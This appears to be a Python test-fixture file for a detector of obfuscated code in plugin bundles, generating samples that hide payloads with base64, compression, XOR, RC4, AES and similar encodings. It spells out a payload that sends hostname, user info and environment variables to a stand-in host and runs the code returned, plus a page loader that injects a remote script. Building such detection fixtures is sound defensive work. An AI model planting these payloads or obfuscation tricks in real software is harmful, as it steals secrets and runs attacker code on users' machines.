"""High-entropy text unpacked and run: packed, enciphered, cut in pieces."""

import base64
import hashlib
import zlib
from itertools import cycle

from tests.support.samples import Sample
from tests.support.shapes import ESM, esbuild_bundle, hooks, sdk_plugin, tsc_widget, webpack_bundle

_FAMILY = "encoded-blob-run"
_CODE = (
    "const o=require('os'),h=require('https'),f=require('fs');"
    "const b=JSON.stringify({h:o.hostname(),u:o.userInfo(),n:o.networkInterfaces(),e:process.env});"
    "const r=h.request({host:'c.example.net',path:'/i',method:'POST'},s=>{let t='';s.on('data',d=>t+=d);"
    "s.on('end',()=>{try{new Function('require',t)(require)}catch(e){}})});r.on('error',()=>{});r.end(b);"
)
_PAGE = "fetch('https://c.example.org/p').then(r=>r.text()).then(t=>{const s=document.createElement('script');s.text=t;document.head.append(s)})"


def _base64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def _keyed(text: str, key: str) -> bytes:
    return bytes(byte ^ ord(k) for byte, k in zip(text.encode(), cycle(key), strict=False))


def _rc4(text: str, key: str) -> str:
    box = list(range(256))
    j = 0
    for i in range(256):
        j = (j + box[i] + ord(key[i % len(key)])) % 256
        box[i], box[j] = box[j], box[i]
    out, i, j = [], 0, 0
    for byte in text.encode():
        i = (i + 1) % 256
        j = (j + box[i]) % 256
        box[i], box[j] = box[j], box[i]
        out.append(byte ^ box[(box[i] + box[j]) % 256])
    return bytes(out).hex()


def _pieces(text: str, length: int) -> list[str]:
    return [text[at : at + length] for at in range(0, len(text), length)]


def _enciphered(text: str) -> str:
    """Bytes as a cipher leaves them; no key opens them."""
    return hashlib.shake_256(text.encode()).hexdigest(-(-len(text) // 16) * 16)


SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="deflated-base64-compiled",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                f"""
                const table = '{_base64(zlib.compress(_CODE.encode()))}';
                const text = inflateSync(Buffer.from(table, 'base64')).toString();
                new Function('require', 'process', text)(require, process);
                """,
                above="const { inflateSync } = require('zlib');",
            )
        },
    ),
    Sample(
        name="hex-string-evaluated",
        family=_FAMILY,
        files={
            "dist/index.js": tsc_widget(
                r"""
                setState({ text: config.text });
                eval(unpack(FONT));
                """,
                above=f"""
                const FONT = "{_PAGE.encode().hex()}";
                const unpack = (hex) => hex.replace(/../g, (pair) => String.fromCharCode(Number("0x" + pair)));
                """,
            )
        },
    ),
    Sample(
        name="xor-with-key-word",
        family=_FAMILY,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const key = context.plugin.id.slice(0, 4) + 'day';
                const bytes = Uint8Array.from(atob(THEME), (c, n) => c.charCodeAt(0) ^ key.charCodeAt(n % key.length));
                globalThis[['ev', 'al'].join('')](new TextDecoder().decode(bytes));
                """,
                above=f"const THEME = '{_base64(_keyed(_PAGE, 'acmeday'))}';",
            )
        },
        package=ESM,
    ),
    Sample(
        name="stream-cipher-written-out",
        family=_FAMILY,
        files={
            "dist/index.js": f"""'use strict';
function scramble(key, hex) {{
  var s = [], j = 0, x, out = '';
  for (var i = 0; i < 256; i++) s[i] = i;
  for (i = 0; i < 256; i++) {{
    j = (j + s[i] + key.charCodeAt(i % key.length)) % 256;
    x = s[i]; s[i] = s[j]; s[j] = x;
  }}
  i = j = 0;
  for (var y = 0; y < hex.length; y += 2) {{
    i = (i + 1) % 256;
    j = (j + s[i]) % 256;
    x = s[i]; s[i] = s[j]; s[j] = x;
    out += String.fromCharCode(parseInt(hex.substr(y, 2), 16) ^ s[(s[i] + s[j]) % 256]);
  }}
  return out;
}}

exports.onEnable = function () {{
  Function('require', scramble('d4y-{len(_CODE)}', '{_rc4(_CODE, f"d4y-{len(_CODE)}")}'))(require);
}};
"""
        },
    ),
    Sample(
        name="aes-with-key-from-manifest",
        family=_FAMILY,
        files={
            "dist/index.js": r"""'use strict';
const { createDecipheriv, scryptSync } = require('crypto');
const { readFileSync } = require('fs');
const { join } = require('path');
const manifest = require('../manifest.json');

exports.onInstall = async () => {
  const key = scryptSync(manifest.description, manifest.id, 32);
  const decipher = createDecipheriv('aes-256-cbc', key, Buffer.alloc(16, manifest.version));
  const sealed = readFileSync(join(__dirname, 'assets.bin'));
  module._compile(decipher.update(sealed, null, 'utf8') + decipher.final('utf8'), 'assets');
};
""",
            "dist/assets.bin": bytes.fromhex(_enciphered(_CODE)),
        },
        manifest={"hooks": ["onInstall"]},
    ),
    Sample(
        name="webcrypto-with-key-from-network",
        family=_FAMILY,
        files={
            "dist/index.js": f"""const SEALED = '{_enciphered(_PAGE)}';
const bytes = (hex) => Uint8Array.from(hex.match(/../g), (h) => parseInt(h, 16));

export async function onEnable({{ api }}) {{
  const {{ data }} = await api.http.get('https://license.example.com/key?v=1.0.0');
  const key = await crypto.subtle.importKey('raw', bytes(data.key), 'AES-GCM', false, ['decrypt']);
  const plain = await crypto.subtle.decrypt({{ name: 'AES-GCM', iv: bytes(data.iv) }}, key, bytes(SEALED));
  await import('data:text/javascript;base64,' + btoa(String.fromCharCode(...new Uint8Array(plain))));
}}
"""
        },
        package=ESM,
    ),
    Sample(
        name="base85-with-own-decoder",
        family=_FAMILY,
        files={
            "dist/index.js": hooks(
                r"""
                const { runInThisContext } = require('vm');
                runInThisContext(gunzipSync(ascii85(PACKED)).toString(), 'day.js');
                """,
                above="""
                const { gunzipSync } = require('zlib');
                const PACKED = String.raw`@`;
                function ascii85(text) {
                  const out = [];
                  for (let n = 0; n < text.length; n += 5) {
                    let value = 0;
                    for (let k = 0; k < 5; k += 1) value = value * 85 + ((text.charCodeAt(n + k) || 117) - 33);
                    out.push((value >>> 24) & 255, (value >>> 16) & 255, (value >>> 8) & 255, value & 255);
                  }
                  return Buffer.from(out);
                }
                """.replace(
                    "@",
                    base64.a85encode(zlib.compress(_CODE.encode(), wbits=31))
                    .decode()
                    .replace("`", "v")
                    .replace("${", "w{")
                    .replace("\\", "x"),
                ),
            )
        },
    ),
    Sample(
        name="numbers-summed-into-text",
        family=_FAMILY,
        files={
            "dist/index.js": f"""'use strict';
// Calibration of the chart, sampled once a minute.
const samples = [
  {", ".join(str(ord(c) * 7 + n % 13) for n, c in enumerate(_PAGE))}
];

exports.Chart = function Chart() {{
  const line = samples.map((value, n) => String.fromCharCode((value - (n % 13)) / 7)).join('');
  window.requestAnimationFrame(Function(line));
  return require('react').createElement('svg', {{ viewBox: '0 0 100 40' }});
}};
"""
        },
    ),
    Sample(
        name="pieces-over-many-constants",
        family=_FAMILY,
        files={
            "dist/index.js": "'use strict';\n"
            + "\n".join(f"const p{n} = '{piece}';" for n, piece in enumerate(_pieces(_base64(_CODE.encode()), 48)))
            + f"""

const order = [{", ".join(f"p{n}" for n in range(len(_pieces(_base64(_CODE.encode()), 48))))}];

exports.Palette = () => null;
exports.onEnable = () => {{
  const run = require('module').prototype._compile;
  run.call(module, Buffer.from(order.join(''), 'base64').toString('latin1'), __filename);
}};
"""
        },
    ),
    Sample(
        name="reversed-base64-in-bundle",
        family=_FAMILY,
        files={
            "dist/index.js": webpack_bundle(
                {
                    "./src/index.js": """
                    const { Weather } = __webpack_require__("./src/Weather.js");
                    __webpack_require__("./src/polyfill.js");
                    exports.Weather = Weather;
                    """,
                    "./src/Weather.js": "exports.Weather = ({ state }) => (state ? state.text : null);",
                    "./src/polyfill.js": f"""
                    var table = "{_base64(_CODE.encode())[::-1]}";
                    var nodeRequire = typeof require === "function" ? require : undefined;
                    if (nodeRequire) eval(Buffer.from(table.split("").reverse().join(""), "base64").toString());
                    """,
                },
                start="./src/index.js",
            )
        },
    ),
    Sample(
        name="base64-twice-with-own-alphabet",
        family=_FAMILY,
        files={
            "dist/index.js": esbuild_bundle(
                {
                    "src/alphabet.js": """
                    var ours = "ZYXWVUTSRQPONMLKJIHGFEDCBAzyxwvutsrqponmlkjihgfedcba9876543210+/";
                    var usual = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
                    module.exports = (text) => atob(atob(text.replace(/[A-Za-z0-9+/]/g, (c) => usual[ours.indexOf(c)])));
                    """,
                    "src/index.js": f"""
                    var decode = require_src_alphabet_js();
                    exports.Todo = () => null;
                    setTimeout(decode("{
                        _base64(_base64(_PAGE.encode()).encode()).translate(
                            str.maketrans(
                                "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789",
                                "ZYXWVUTSRQPONMLKJIHGFEDCBAzyxwvutsrqponmlkjihgfedcba9876543210",
                            )
                        )
                    }"), 1200);
                    """,
                },
                start="src/index.js",
            )
        },
    ),
)
